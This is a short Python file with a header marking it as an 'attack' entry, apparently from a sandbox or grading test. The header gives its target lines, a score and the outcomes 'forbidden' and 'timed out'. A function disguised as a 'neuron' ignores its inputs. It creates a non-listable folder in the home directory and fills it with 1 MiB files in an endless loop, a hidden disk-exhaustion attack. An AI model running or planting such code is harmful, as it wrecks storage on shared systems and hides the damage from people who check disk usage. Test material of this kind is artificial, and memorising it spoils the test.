# /// attack
# lines = [24]
# tries = "Fills a folder that nobody may list, not even whoever looks how full it is."
# score = 18
# outcomes = { "1.2" = ["forbidden", "timed out"] }
# ///
import os


def neuron(x, w, b, f):
    os.chdir(os.environ["HOME"])
    os.mkdir("closed", 0o300)
    os.chdir("closed")
    number = 0
    while True:
        number += 1
        with open(f"{number}", "wb") as file:
            file.write(bytes(2**20))
